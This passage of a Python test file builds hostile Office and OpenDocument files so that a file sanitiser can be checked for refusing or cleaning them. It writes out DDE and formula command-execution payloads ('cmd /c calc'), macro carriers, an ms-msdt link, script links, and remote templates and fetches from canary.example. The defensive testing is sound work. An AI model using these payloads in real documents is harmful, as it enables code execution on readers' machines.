"""T-55 and T-56: office files that act, carry others, or fetch. T-52: with a photo inside."""

import io
import struct
import zipfile
from functools import partial

from tests.hostile.corpus import heics, jpegs, metadata, offices, pngs
from tests.hostile.corpus.hostile import CANARY, SCRIPT, fixed, item
from tests.hostile.corpus.offices import (
    HEAD,
    MAIN,
    docx,
    docx_parts,
    odt,
    override,
    packed,
    paragraph,
    pptx,
    relation,
    xlsx,
    xlsx_parts,
)

MACRO = b"application/vnd.ms-office.vbaProject"
VBA_REL = b"http://schemas.microsoft.com/office/2006/relationships/vbaProject"
MS = b"application/vnd.ms-"
# What Office 97 saved, and what a macro is kept in.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EXE = b"MZ\x90\0" + bytes(56) + b"\x40\0\0\0PE\0\0\x4c\x01" + bytes(200)


def compound(*streams: str) -> bytes:
    """A compound file whose directory names these streams."""
    head = OLE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * 432
    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
    names = ("Root Entry", *streams)
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HBB", 2 * len(name) + 2, 5 if name == "Root Entry" else 2, 1)
        + b"\xff" * 12
        + bytes(48)
        for name in names
    )
    return head + table + entries.ljust(512, b"\0") + bytes(4096)


VBA = compound("VBA", "dir", "_VBA_PROJECT", "ThisDocument")


def with_macro(kind: bytes = MAIN + b"wordprocessingml.document.main+xml") -> bytes:
    return docx(
        kind=kind,
        types=(override("word/vbaProject.bin", MACRO),),
        links=(relation(9, VBA_REL, b"vbaProject.bin"),),
        **{"word__vbaProject.bin": VBA},
    )


def workbook_with_macro(kind: bytes) -> bytes:
    return xlsx(
        kind=kind,
        types=(override("xl/vbaProject.bin", MACRO),),
        links=(relation(9, VBA_REL, b"vbaProject.bin"),),
        **{"xl__vbaProject.bin": VBA},
    )


def slides_with_macro(kind: bytes) -> bytes:
    return pptx(
        kind=kind,
        types=(override("ppt/vbaProject.bin", MACRO),),
        links=(relation(9, VBA_REL, b"vbaProject.bin"),),
        **{"ppt__vbaProject.bin": VBA},
    )


def macro_under_another_name() -> bytes:
    """Only the content type and the relationship say what it is."""
    return docx(
        types=(override("word/theme/theme9.xml", MACRO),),
        links=(relation(9, VBA_REL, b"theme/theme9.xml"),),
        word__theme__theme9_xml=VBA,
    ).replace(b"theme9_xml", b"theme9.xml")


def macro_as_picture() -> bytes:
    """Nothing says what it is, but its bytes."""
    return docx(
        links=(relation(9, b"image", b"media/image1.png"),), **{"word__media__image1.png": VBA}
    )


def carrying(path: str, content: bytes, kind: bytes, target: bytes) -> bytes:
    return docx(
        links=(relation(9, kind, target),),
        **{f"word__{path}": content},
        types=(b'<Default Extension="bin" ContentType="application/octet-stream"/>',),
    )


def linked(kind: bytes, target: bytes) -> bytes:
    return docx(links=(relation(9, kind, target, away=True),))


def field(code: bytes) -> bytes:
    return docx(
        body=b'<w:p><w:fldSimple w:instr=" '
        + code
        + b' "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )


def template_elsewhere() -> bytes:
    settings = (
        b'<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    parts = docx_parts(
        types=(override("word/settings.xml", MAIN + b"wordprocessingml.settings+xml"),),
        links=(relation(9, b"settings", b"settings.xml"),),
    )
    parts["word/settings.xml"] = HEAD + settings % (offices.WORD, offices.OFFICE)
    parts["word/_rels/settings.xml.rels"] = offices.relations(
        relation(1, b"attachedTemplate", b"http://canary.example/evil.dotm", away=True)
    )
    return packed(parts)


def drawing(svg: bytes, *, ending: str = "svg", kind: bytes = b"image/svg+xml") -> bytes:
    name = f"word/media/image1.{ending}"
    parts = docx_parts(
        types=(override(name, kind),), links=(relation(9, b"image", name[5:].encode()),)
    )
    parts[name] = (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        + svg
        + b"</svg>"
    )
    return packed(parts)


def old_drawing(attributes: bytes) -> bytes:
    """Word still reads how drawings were written before 2007."""
    return docx(
        body=b'<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" '
        b'xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata '
        + attributes
        + b"/></v:shape></w:pict></w:r></w:p>"
    )


def slide(action: bytes, target: bytes) -> bytes:
    """Acts when it is clicked, or when the mouse only passes over it."""
    parts = offices.pptx_parts(
        types=(override("ppt/slides/slide1.xml", MAIN + b"presentationml.slide+xml"),),
        links=(relation(9, b"slide", b"slides/slide1.xml"),),
    )
    parts["ppt/slides/slide1.xml"] = (
        HEAD
        + b'<p:sld xmlns:p="%s" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        % offices.SLIDES
        + b'xmlns:r="%s"><p:cSld><p:spTree><a:hlinkMouseOver r:id="rId1" action="%s"/>'
        % (offices.OFFICE, action)
        + b"</p:spTree></p:cSld></p:sld>"
    )
    parts["ppt/slides/_rels/slide1.xml.rels"] = offices.relations(
        relation(1, b"hyperlink", target, away=True)
    )
    return packed(parts)


def field_in_pieces(*pieces: bytes) -> bytes:
    """Word cuts the code of a field as it likes; people who hide one do, too."""
    runs = b"".join(
        b'<w:r><w:instrText xml:space="preserve">' + piece + b"</w:instrText></w:r>"
        for piece in pieces
    )
    begin, end = (
        b'<w:r><w:fldChar w:fldCharType="' + kind + b'"/></w:r>' for kind in (b"begin", b"end")
    )
    return docx(body=b"<w:p>" + begin + runs + end + b"</w:p>")


def windows_drawing() -> bytes:
    """An enhanced metafile, and behind its end a whole photo."""
    head = (
        struct.pack("<II", 1, 88)
        + bytes(32)
        + b" EMF"
        + struct.pack("<IIIHH", 0x10000, 108, 2, 1, 0)
    )
    head = head.ljust(88, b"\0")
    end = struct.pack("<IIIII", 14, 20, 0, 16, 20)
    return docx(
        links=(relation(9, b"image", b"media/image1.emf"),),
        types=(b'<Default Extension="emf" ContentType="image/x-emf"/>',),
        **{"word__media__image1.emf": head + end + metadata.everything()},
    )


def formula(text: bytes) -> bytes:
    return xlsx(cell=b'<c r="A1"><f>' + text + b"</f><v>1</v></c>")


def book_linked_elsewhere(kind: bytes) -> bytes:
    parts = xlsx_parts(links=(relation(9, b"externalLink", b"externalLinks/externalLink1.xml"),))
    parts["xl/externalLinks/externalLink1.xml"] = (
        HEAD + b'<externalLink xmlns="%s">' % offices.SHEET + kind + b"</externalLink>"
    )
    return packed(parts)


def macro_sheet() -> bytes:
    """Excel 4's macros are cells, without any VBA."""
    kind = b"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    parts = xlsx_parts(
        types=(override("xl/macrosheets/sheet1.xml", MS + b"excel.macrosheet+xml"),),
        links=(relation(9, kind, b"macrosheets/sheet1.xml"),),
    )
    parts["xl/macrosheets/sheet1.xml"] = (
        HEAD
        + b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="%s">'
        % offices.SHEET
        + b'<sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'
    )
    return packed(parts)


def ribbon() -> bytes:
    parts = docx_parts()
    parts["_rels/.rels"] = offices.relations(
        relation(1, b"officeDocument", b"word/document.xml"),
        relation(
            2,
            b"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            b"customUI/customUI.xml",
        ),
    )
    parts["customUI/customUI.xml"] = (
        b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Canary"/>'
    )
    return packed(parts)


def web_query() -> bytes:
    parts = xlsx_parts(links=(relation(9, b"connections", b"connections.xml"),))
    parts["xl/connections.xml"] = (
        HEAD
        + b'<connections xmlns="%s"><connection id="1" name="a" type="4" refreshOnLoad="1">'
        % offices.SHEET
        + b'<webPr url="http://canary.example/"/></connection></connections>'
    )
    return packed(parts)


def with_photo(form: str) -> bytes:
    photo = metadata.everything()
    if form == "docx":
        return docx(
            links=(relation(9, b"image", b"media/image1.jpeg"),),
            **{"word__media__image1.jpeg": photo},
        )
    if form == "xlsx":
        return packed(xlsx_parts() | {"xl/media/image1.jpeg": photo})
    if form == "pptx":
        return pptx(
            links=(relation(9, b"image", b"media/image1.jpeg"),),
            **{"ppt__media__image1.jpeg": photo},
        )
    return odt(
        body=b'<text:p><draw:frame><draw:image xlink:href="Pictures/1.jpg"/></draw:frame></text:p>',
        entries=b'<manifest:file-entry manifest:full-path="Pictures/1.jpg" manifest:media-type="image/jpeg"/>',
        **{"Pictures__1.jpg": photo},
    )


def with_thumbnail() -> bytes:
    """Of the first page, made by a camera."""
    parts = docx_parts()
    parts["docProps/thumbnail.jpeg"] = metadata.everything()
    return packed(parts)


def photo_named_otherwise() -> bytes:
    return docx(
        links=(relation(9, b"image", b"media/image1.png"),),
        **{"word__media__image1.png": metadata.everything()},
    )


def huge_picture_inside() -> bytes:
    return docx(
        links=(relation(9, b"image", b"media/image1.png"),),
        **{"word__media__image1.png": pngs.black(7_000, 7_000)},
    )


def drawing_inside() -> bytes:
    return docx(
        links=(relation(9, b"image", b"media/image1.svg"),),
        types=(b'<Default Extension="svg" ContentType="image/svg+xml"/>',),
        **{
            "word__media__image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg">'
            + SCRIPT
            + b"</svg>"
        },
    )


def field_in_another_folder() -> bytes:
    parts = docx_parts(
        body=b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/></w:p>'
    )
    parts["word/numbering.xml"] = HEAD + b'<w:numbering xmlns:w="%s"/>' % offices.WORD
    whole = {
        name.replace("word/document", "text/document").replace("word/_rels", "text/_rels"): body
        for name, body in parts.items()
    }
    return packed(
        {n: body.replace(b"word/document.xml", b"text/document.xml") for n, body in whole.items()}
    )


def document_named(name: str) -> bytes:
    """Word goes by what a part is said to be; its name may say something else."""
    parts = docx_parts(
        body=b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/></w:p>'
    )
    parts["word/numbering.xml"] = HEAD + b'<w:numbering xmlns:w="%s"/>' % offices.WORD
    whole = {each.replace("word/document.xml", name): body for each, body in parts.items()}
    whole[f"word/_rels/{name.rpartition('/')[2]}.rels"] = whole.pop("word/_rels/document.xml.rels")
    return packed({n: b.replace(b"word/document.xml", name.encode()) for n, b in whole.items()})


def named_and_said(name: str, end: bytes) -> bytes:
    """A second document, which is one to whoever reads a type without its case or its parameters."""
    kind = (MAIN + b"wordprocessingml.document.main+xml").replace(b"+xml", end)
    parts = docx_parts(types=(override(name, kind),))
    parts[name] = offices.document(
        b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/></w:p>'
    )
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", name.encode())
    return packed(parts)


def formula_in_a_name() -> bytes:
    parts = xlsx_parts()
    names = b"<definedNames><definedName name=\"a\">cmd|'/c calc'!A1</definedName></definedNames>"
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", b"</sheets>" + names)
    return packed(parts)


def formula_of_a_rule() -> bytes:
    """Worked out whenever the sheet is drawn."""
    parts = xlsx_parts()
    rule = (
        b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        b"<formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"
    )
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", b"</sheetData>" + rule)
    return packed(parts | {"xl/worksheets/sheet1.xml": sheet})


def odt_keys() -> bytes:
    """A document may bring its own keys and menus, which call scripts of the program's."""
    path = "Configurations2/accelerator/current.xml"
    keys = (
        b'<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item accel:code="KEY_A" '
        b'xlink:href="vnd.sun.star.script:a.py$x?language=Python&amp;location=share"/>'
        b"</accel:acceleratorlist>"
    )
    entry = b'<manifest:file-entry manifest:full-path="%s" manifest:media-type=""/>'
    return odt(entries=entry % path.encode(), **{path.replace("/", "__"): keys})


def formula_in_another_folder(folder: str) -> bytes:
    parts = xlsx_parts(cell=b'<c r="A1"><f>WEBSERVICE("http://canary.example/")</f><v>1</v></c>')
    at = f"{folder}/sheet1.xml"
    parts[at] = parts.pop("xl/worksheets/sheet1.xml")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"/xl/worksheets/sheet1.xml", f"/{at}".encode()
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", f"/{at}".encode()
    )
    return packed(parts)


def formula_in_utf_16() -> bytes:
    parts = xlsx_parts(cell=b'<c r="A1"><f>WEBSERVICE("http://canary.example/")</f><v>1</v></c>')
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b'"UTF-8"', b'"UTF-16"')
    return packed(parts | {"xl/worksheets/sheet1.xml": sheet.decode().encode("utf-16")})


def chart(workbook: bytes) -> bytes:
    """A chart has a workbook of its own inside: the one embedded file that is no passenger."""
    kind = MAIN + b"drawingml.chart+xml"
    parts = docx_parts(
        types=(
            override("word/charts/chart1.xml", kind),
            b'<Default Extension="xlsx" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        ),
        links=(relation(9, b"chart", b"charts/chart1.xml"),),
    )
    parts["word/charts/chart1.xml"] = (
        HEAD
        + b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
        + b'xmlns:r="%s"><c:externalData r:id="rId1"/></c:chartSpace>' % offices.OFFICE
    )
    parts["word/charts/_rels/chart1.xml.rels"] = offices.relations(
        relation(1, b"package", b"../embeddings/Microsoft_Excel_Sheet1.xlsx")
    )
    parts["word/embeddings/Microsoft_Excel_Sheet1.xlsx"] = workbook
    return packed(parts)


def vml_part(attribute: bytes) -> bytes:
    return packed(
        xlsx_parts()
        | {
            "xl/drawings/vmlDrawing1.vml": b'<xml xmlns:v="urn:schemas-microsoft-com:vml" '
            b'xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata '
            + attribute
            + b"/></v:shape></xml>"
        }
    )


def film_in_slides() -> bytes:
    return packed(offices.pptx_parts() | {"ppt/media/media1.mp4": heics.brand(b"isom")})


def written_as_a_stream() -> bytes:
    """As programs write that cannot go back: the sizes follow each part."""

    class Pipe(io.RawIOBase):
        out = b""

        def writable(self) -> bool:
            return True

        def write(self, piece: bytes) -> int:
            self.out += bytes(piece)
            return len(piece)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as whole:
        for name, content in docx_parts().items():
            whole.writestr(name, content)
    return pipe.out


def odt_with_script(path: str) -> bytes:
    return odt(
        entries=b'<manifest:file-entry manifest:full-path="%s" manifest:media-type="text/xml"/>'
        % path.encode(),
        **{path.replace("/", "__"): b'<script>Sub Main\nShell("calc")\nEnd Sub</script>'},
    )


def odt_listening() -> bytes:
    """Runs a program when the document is opened, without a macro of its own."""
    listener = (
        b'<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        b'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$os?language=Python"/>'
        b"</office:event-listeners></office:scripts>"
    )
    whole = offices.odt_parts()
    whole["content.xml"] = whole["content.xml"].replace(
        b"<office:body>", listener + b"<office:body>"
    )
    return packed(whole)


def odt_locked() -> bytes:
    parts = offices.odt_parts()
    parts["content.xml"] = bytes(range(256)) * 4
    parts["META-INF/manifest.xml"] = parts["META-INF/manifest.xml"].replace(
        b'manifest:full-path="content.xml" manifest:media-type="text/xml"/>',
        b'manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="900">'
        b'<manifest:encryption-data manifest:checksum="AAAA"><manifest:algorithm '
        b'manifest:algorithm-name="Blowfish CFB"/></manifest:encryption-data></manifest:file-entry>',
    )
    return packed(parts)


def without(path: str, parts: offices.Parts) -> bytes:
    return packed({name: content for name, content in parts.items() if name != path})


refused = partial(item, expect="refused when checked")
at_once = partial(item, expect="refused")
cleaned = partial(item, expect="cleaned")
hidden = partial(item, expect="cleaned", never=(CANARY,))
WORD_MACROS = MS + b"word.document.macroEnabled.main+xml"
BOOK_MACROS = MS + b"excel.sheet.macroEnabled.main+xml"
SLIDE_MACROS = MS + b"powerpoint.presentation.macroEnabled.main+xml"

ITEMS = (
    at_once("T-56-docm", "minutes.docm", partial(with_macro, WORD_MACROS)),
    at_once("T-56-docm-named-docx", "minutes.docx", partial(with_macro, WORD_MACROS)),
    at_once("T-56-docx-with-macro", "minutes.docx", with_macro),
    refused("T-56-docm-without-its-macro", "minutes.docx", partial(docx, kind=WORD_MACROS)),
    refused(
        "T-56-dotx-template",
        "minutes.docx",
        partial(docx, kind=MAIN + b"wordprocessingml.template.main+xml"),
    ),
    at_once("T-56-xlsm", "sums.xlsm", partial(workbook_with_macro, BOOK_MACROS)),
    at_once("T-56-xlsm-named-xlsx", "sums.xlsx", partial(workbook_with_macro, BOOK_MACROS)),
    at_once(
        "T-56-xlam-named-xlsx",
        "sums.xlsx",
        partial(workbook_with_macro, MS + b"excel.addin.macroEnabled.main+xml"),
    ),
    refused(
        "T-56-xlsb-named-xlsx",
        "sums.xlsx",
        partial(xlsx, kind=MS + b"excel.sheet.binary.macroEnabled.main"),
    ),
    at_once("T-56-pptm", "talk.pptm", partial(slides_with_macro, SLIDE_MACROS)),
    at_once("T-56-pptm-named-pptx", "talk.pptx", partial(slides_with_macro, SLIDE_MACROS)),
    at_once(
        "T-56-ppsm-named-pptx",
        "talk.pptx",
        partial(slides_with_macro, MS + b"powerpoint.slideshow.macroEnabled.main+xml"),
    ),
    refused("T-56-macro-under-another-name", "minutes.docx", macro_under_another_name),
    refused("T-56-macro-as-picture", "minutes.docx", macro_as_picture),
    at_once(
        "T-56-macro-that-nothing-names",
        "minutes.docx",
        lambda: packed(docx_parts() | {"word/vbaProject.bin": VBA}),
    ),
    at_once(
        "T-56-macro-in-capitals",
        "minutes.docx",
        lambda: packed(docx_parts() | {"WORD/VBAPROJECT.BIN": VBA}),
    ),
    at_once("T-56-excel-4-macro-sheet", "sums.xlsx", macro_sheet),
    refused("T-56-ribbon-that-calls", "minutes.docx", ribbon),
    at_once(
        "T-55-activex",
        "minutes.docx",
        lambda: packed(
            docx_parts(links=(relation(9, b"control", b"activeX/activeX1.xml"),))
            | {
                "word/activeX/activeX1.xml": b"<ax:ocx/>",
                "word/activeX/activeX1.bin": OLE + bytes(512),
            }
        ),
    ),
    at_once(
        "T-55-ole-object",
        "minutes.docx",
        partial(
            carrying,
            "embeddings__oleObject1.bin",
            compound("\x01Ole10Native"),
            b"oleObject",
            b"embeddings/oleObject1.bin",
        ),
    ),
    at_once(
        "T-55-program-as-package",
        "minutes.docx",
        partial(carrying, "embeddings__package1.bin", EXE, b"package", b"embeddings/package1.bin"),
    ),
    refused(
        "T-55-workbook-with-macro-as-package",
        "minutes.docx",
        lambda: carrying(
            "embeddings__book1.xlsx",
            workbook_with_macro(BOOK_MACROS),
            b"package",
            b"embeddings/book1.xlsx",
        ),
    ),
    refused(
        "T-55-program-as-custom-part",
        "minutes.docx",
        lambda: packed(docx_parts() | {"customXml/item1.xml": EXE}),
    ),
    at_once(
        "T-55-page-as-chunk",
        "minutes.docx",
        partial(carrying, "chunk.html", b"<html>" + SCRIPT, b"aFChunk", b"chunk.html"),
    ),
    refused("T-55-template-elsewhere", "minutes.docx", template_elsewhere),
    refused(
        "T-55-picture-elsewhere",
        "minutes.docx",
        partial(linked, b"image", b"http://canary.example/a.png"),
    ),
    refused(
        "T-55-picture-on-a-share",
        "minutes.docx",
        partial(linked, b"image", b"file://canary.example/a.png"),
    ),
    refused(
        "T-55-object-elsewhere",
        "minutes.docx",
        partial(linked, b"oleObject", b"http://canary.example/a.hta"),
    ),
    refused(
        "T-55-part-elsewhere",
        "minutes.docx",
        partial(linked, b"subDocument", b"http://canary.example/a.docx"),
    ),
    refused(
        "T-55-frame-elsewhere", "minutes.docx", partial(linked, b"frame", b"http://canary.example/")
    ),
    refused(
        "T-55-link-of-a-script",
        "minutes.docx",
        partial(linked, b"hyperlink", b"javascript:alert(1)"),
    ),
    refused(
        "T-55-link-of-a-handler",
        "minutes.docx",
        partial(linked, b"hyperlink", b"ms-msdt:/id%20PCWDiagnostic"),
    ),
    cleaned(
        "T-55-link-of-a-page",
        "minutes.docx",
        partial(linked, b"hyperlink", b"https://www.birmingham.gov.uk/"),
    ),
    cleaned(
        "T-55-link-of-a-letter",
        "minutes.docx",
        partial(linked, b"hyperlink", b"mailto:send@example.org"),
    ),
    refused(
        "T-55-field-that-starts-a-program",
        "minutes.docx",
        partial(field, b"DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"),
    ),
    refused(
        "T-55-field-that-fetches-a-picture",
        "minutes.docx",
        partial(field, b"INCLUDEPICTURE &quot;http://canary.example/a.png&quot; \\d"),
    ),
    refused(
        "T-55-field-that-fetches-text",
        "minutes.docx",
        partial(field, b"INCLUDETEXT &quot;\\\\\\\\canary.example\\\\a&quot;"),
    ),
    cleaned("T-55-field-of-the-page-number", "minutes.docx", partial(field, b"PAGE")),
    refused(
        "T-55-formula-that-starts-a-program", "sums.xlsx", partial(formula, b"cmd|'/c calc'!A1")
    ),
    refused(
        "T-55-formula-of-a-web-service",
        "sums.xlsx",
        partial(formula, b"WEBSERVICE(&quot;http://canary.example/&quot;&amp;A2)"),
    ),
    cleaned("T-55-formula-that-adds", "sums.xlsx", partial(formula, b"SUM(B1:B9)")),
    at_once(
        "T-55-workbook-linked-to-a-program",
        "sums.xlsx",
        partial(book_linked_elsewhere, b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    ),
    at_once(
        "T-55-workbook-linked-to-another",
        "sums.xlsx",
        partial(
            book_linked_elsewhere, b'<externalBook r:id="rId1" xmlns:r="%s"/>' % offices.OFFICE
        ),
    ),
    at_once("T-55-workbook-that-asks-the-web", "sums.xlsx", web_query),
    refused(
        "T-54-drawing-in-docx-that-listens",
        "a.docx",
        partial(drawing, b"<rect onclick='alert(1)'/>"),
    ),
    refused(
        "T-54-drawing-in-docx-with-a-page",
        "a.docx",
        partial(drawing, b"<foreignObject>x</foreignObject>"),
    ),
    refused(
        "T-54-drawing-in-docx-from-elsewhere",
        "a.docx",
        partial(drawing, b"<use xlink:href='http://canary.example/#a'/>"),
    ),
    refused(
        "T-54-drawing-in-docx-styled-from-elsewhere",
        "a.docx",
        partial(drawing, b"<style>@import 'http://canary.example/'</style>"),
    ),
    refused(
        "T-54-drawing-in-docx-filled-from-elsewhere",
        "a.docx",
        partial(drawing, b"<rect fill='url( \"http://canary.example/#a\" )'/>"),
    ),
    refused(
        "T-54-drawing-in-docx-filled-in-escapes",
        "a.docx",
        partial(drawing, b"<rect style='fill:\\75rl(http://canary.example/)'/>"),
    ),
    refused(
        "T-54-drawing-in-docx-that-changes-its-link",
        "a.docx",
        partial(drawing, b"<set attributeName='href' to='http://canary.example/'/>"),
    ),
    refused(
        "T-54-drawing-in-docx-linked-to-a-script",
        "a.docx",
        partial(drawing, b"<a xlink:href='java&#9;script:alert(1)'>x</a>"),
    ),
    refused(
        "T-55-old-drawing-from-elsewhere",
        "a.docx",
        partial(old_drawing, b"src='http://canary.example/a.png'"),
    ),
    refused(
        "T-55-old-drawing-from-a-share",
        "a.docx",
        partial(old_drawing, b"o:href='\\\\canary.example\\a.png'"),
    ),
    refused(
        "T-55-slide-that-starts-a-program",
        "talk.pptx",
        partial(slide, b"ppaction://program", b"cmd.exe%20/c%20calc"),
    ),
    refused(
        "T-55-slide-that-calls-a-macro",
        "talk.pptx",
        partial(slide, b"ppaction://macro?name=Canary", b""),
    ),
    refused(
        "T-55-slide-linked-to-a-share",
        "talk.pptx",
        partial(slide, b"ppaction://hlinkfile", b"file:///\\\\canary.example\\run.exe"),
    ),
    refused("T-55-field-in-another-folder", "a.docx", field_in_another_folder),
    refused(
        "T-55-formula-in-another-folder",
        "sums.xlsx",
        partial(formula_in_another_folder, "xl/cells"),
    ),
    refused(
        "T-55-formula-outside-every-folder",
        "sums.xlsx",
        partial(formula_in_another_folder, "cells"),
    ),
    refused("T-55-formula-in-utf-16", "sums.xlsx", formula_in_utf_16),
    refused(
        "T-55-formula-spelt-with-numbers",
        "sums.xlsx",
        partial(formula, b"&#87;EB<!-- -->SERVICE(A1)"),
    ),
    refused(
        "T-55-formula-in-raw-words", "sums.xlsx", partial(formula, b"<![CDATA[WEBSERVICE(A1)]]>")
    ),
    refused(
        "T-55-slide-spelt-with-numbers",
        "talk.pptx",
        partial(slide, b"ppaction://prog&#114;am", b"cmd.exe"),
    ),
    refused(
        "T-55-drawing-part-from-elsewhere",
        "sums.xlsx",
        partial(vml_part, b"src='http://canary.example/a.png'"),
    ),
    refused(
        "T-55-drawing-part-spelt-with-numbers",
        "sums.xlsx",
        partial(vml_part, b"src='&#104;ttp://canary.example/a.png'"),
    ),
    refused(
        "T-55-workbook-with-macro-behind-a-chart",
        "a.docx",
        lambda: chart(workbook_with_macro(BOOK_MACROS)),
    ),
    refused(
        "T-55-workbook-that-fetches-behind-a-chart", "a.docx", lambda: chart(formula_in_utf_16())
    ),
    refused(
        "T-55-locked-workbook-behind-a-chart", "a.docx", lambda: chart(compound("EncryptedPackage"))
    ),
    at_once("T-56-film-in-slides", "talk.pptx", film_in_slides),
    refused("T-55-document-named-as-font", "a.docx", partial(document_named, "word/document.ttf")),
    refused(
        "T-54-drawing-in-docx-said-to-be-xml",
        "a.docx",
        partial(drawing, b"<rect onclick='alert(1)'/>", kind=b"application/xml"),
    ),
    refused(
        "T-54-drawing-in-docx-named-xml",
        "a.docx",
        partial(drawing, b"<rect onclick='alert(1)'/>", ending="xml"),
    ),
    refused(
        "T-54-drawing-in-docx-named-png",
        "a.docx",
        partial(drawing, b"<rect onclick='alert(1)'/>", ending="png"),
    ),
    cleaned("T-54-drawing-in-docx-of-shapes", "a.docx", partial(drawing, b"<rect width='9'/>")),
    *(
        refused(f"T-55-document-named-as-{label}", "a.docx", partial(named_and_said, name, end))
        for label, name, end in (
            ("font-in-capitals", "word/second.ttf", b"+XML"),
            ("drawing-in-capitals", "word/second.vml", b"+XML"),
            ("drawing-with-parameters", "word/second.vml", b"+xml; a=b"),
        )
    ),
    refused(
        "T-55-document-named-as-drawing", "a.docx", partial(document_named, "word/document.vml")
    ),
    refused("T-55-document-named-as-list", "a.docx", partial(document_named, "word/document.rdf")),
    refused("T-55-formula-in-a-name", "sums.xlsx", formula_in_a_name),
    refused("T-55-formula-of-a-rule", "sums.xlsx", formula_of_a_rule),
    # Left out: nobody sends keys and menus on purpose.
    item(
        "T-56-odt-keys-that-call", "a.odt", odt_keys, "cleaned", never=(b"vnd.sun.star", b"accel")
    ),
    refused(
        "T-55-field-in-pieces-that-starts-a-program",
        "a.docx",
        partial(field_in_pieces, b"D", b"DEA", b"UTO cmd &quot;/k calc&quot;"),
    ),
    refused(
        "T-55-field-in-pieces-that-fetches",
        "a.docx",
        partial(
            field_in_pieces, b"INCLUDE", b"PICTURE &quot;http:", b"//canary.example/a.png&quot;"
        ),
    ),
    refused(
        "T-55-formula-of-an-exchange",
        "sums.xlsx",
        partial(formula, b"DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;a&quot;)"),
    ),
    cleaned(
        "T-55-formula-with-a-bar-in-its-words",
        "sums.xlsx",
        partial(formula, b"A1&amp;&quot; | &quot;&amp;B1"),
    ),
    hidden("T-52-photo-behind-a-drawing-of-windows", "visit.docx", windows_drawing),
    refused(
        "T-55-odt-link-of-a-script",
        "a.odt",
        partial(odt, body=b'<text:a xlink:href="javascript:alert(1)">x</text:a>'),
    ),
    refused(
        "T-55-odt-link-of-a-command",
        "a.odt",
        partial(odt, body=b'<text:a xlink:href="vnd.libreoffice.command:macro:///a">x</text:a>'),
    ),
    refused(
        "T-55-odt-link-of-an-order",
        "a.odt",
        partial(odt, body=b'<text:a xlink:href=".uno:RunMacro">x</text:a>'),
    ),
    refused(
        "T-56-odt-field-that-calls",
        "a.odt",
        partial(
            odt, body=b'<text:p><text:execute-macro text:name="Standard.Module1.Main"/></text:p>'
        ),
    ),
    cleaned(
        "T-55-odt-link-of-a-page",
        "a.odt",
        partial(
            odt,
            body=b'<text:p><text:a xlink:href="https://www.birmingham.gov.uk/">x</text:a></text:p>',
        ),
    ),
    refused("T-55-drawing-with-script", "minutes.docx", drawing_inside),
    refused("T-51-docx-with-picture-of-49-megapixels", "minutes.docx", huge_picture_inside),
    hidden("T-52-photo-in-docx", "visit.docx", partial(with_photo, "docx")),
    hidden("T-52-photo-in-docx-named-png", "visit.docx", photo_named_otherwise),
    hidden("T-52-photo-as-thumbnail-of-docx", "visit.docx", with_thumbnail),
    hidden("T-52-photo-in-xlsx", "visit.xlsx", partial(with_photo, "xlsx")),
    hidden("T-52-photo-in-pptx", "visit.pptx", partial(with_photo, "pptx")),
    hidden("T-52-photo-in-odt", "visit.odt", partial(with_photo, "odt")),
    at_once(
        "T-56-odt-with-basic", "minutes.odt", partial(odt_with_script, "Basic/Standard/Module1.xml")
    ),
    at_once("T-56-odt-with-python", "minutes.odt", partial(odt_with_script, "Scripts/python/a.py")),
    refused("T-56-odt-that-listens", "minutes.odt", odt_listening),
    refused(
        "T-55-odt-with-object",
        "minutes.odt",
        partial(
            odt,
